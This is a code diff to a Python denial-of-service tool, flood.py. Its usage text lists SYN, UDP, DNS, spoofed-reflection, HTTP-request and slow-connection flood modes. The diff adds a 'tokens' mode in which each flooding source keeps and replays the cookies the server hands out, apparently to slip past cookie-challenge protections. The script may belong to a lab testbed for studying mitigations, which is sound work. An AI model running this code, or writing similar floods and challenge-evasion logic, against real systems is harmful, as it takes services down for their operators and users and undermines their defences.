@@ -9,6 +9,7 @@ flood.py dns ADDRESS PORT RATE SECONDS ZONE       questions for made-up names of
 flood.py reflect ADDRESS PORT RATE SECONDS ZONE   questions for the zone's keys, all as if 8.8.4.1 had asked
 flood.py http ADDRESS PORT HOST RATE SECONDS     requests from four addresses, answers unread
 flood.py requests ADDRESS PORT HOST SOURCES EACH SECONDS   from so many addresses, so many connections each, the next request as soon as one is answered
+flood.py tokens ADDRESS PORT HOST SOURCES EACH SECONDS     the same, and each source keeps the cookies it is given
 flood.py header|body|read ADDRESS PORT HOST SOURCES HELD SECONDS   slow ones, from so many addresses: so many connections are held, whatever the other side
                                                  does about it; a header, a form or an answer goes on by a few bytes every four seconds
 """
@@ -132,13 +133,16 @@ def bots(n):
     return "9.9.%d.%d" % (n % 10, 1 + n // 10 % 25)
 
 
-async def visitor(source, address, port, host, n, end, count):
+async def visitor(source, address, port, host, n, end, count, keeps):
     while time.monotonic() < end:
         try:
             r, w = await asyncio.open_connection(address, port, local_addr=(source, 0))
             while time.monotonic() < end:
-                w.write(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n" % (n, host))
+                cookie = b"Cookie: %s\r\n" % COOKIES[source] if source in COOKIES else b""
+                w.write(b"GET /page.html?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n%s\r\n" % (n, host, cookie))
                 head = await r.readuntil(b"\r\n\r\n")
+                if keeps and (given := re.search(rb"\r\nSet-Cookie: ([^;]*);", head)):
+                    COOKIES[source] = given[1]
                 count[head[9:12]] = count.get(head[9:12], 0) + 1
                 await r.readexactly(int(head.lower().split(b"content-length: ")[1].split(b"\r")[0]))
         except (OSError, EOFError, IndexError, ValueError, asyncio.LimitOverrunError):
@@ -146,9 +150,9 @@ async def visitor(source, address, port, host, n, end, count):
             await asyncio.sleep(0.05)
 
 
-async def requests(address, port, host, sources, each, seconds):
+async def requests(address, port, host, sources, each, seconds, keeps):
     end, count = time.monotonic() + seconds, {}
-    tasks = [asyncio.create_task(visitor(bots(n), address, port, host.encode(), n, end, count)) for n in range(sources) for _ in range(each)]
+    tasks = [asyncio.create_task(visitor(bots(n), address, port, host.encode(), n, end, count, keeps)) for _ in range(each) for n in range(sources)]
     await asyncio.wait(tasks, timeout=seconds + 1)
     print({k.decode(): v for k, v in count.items()})
 
@@ -205,8 +209,8 @@ def main():
     kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     if kind == "honest":
         asyncio.run(honest(address, port, sys.argv[4], float(sys.argv[5]), float(sys.argv[6])))
-    elif kind == "requests":
-        asyncio.run(requests(address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7])))
+    elif kind in ("requests", "tokens"):
+        asyncio.run(requests(address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]), kind == "tokens"))
     elif kind in SLOW:
         slow(kind, address, port, sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
     elif kind in ("syn", "udp", "dns", "reflect"):
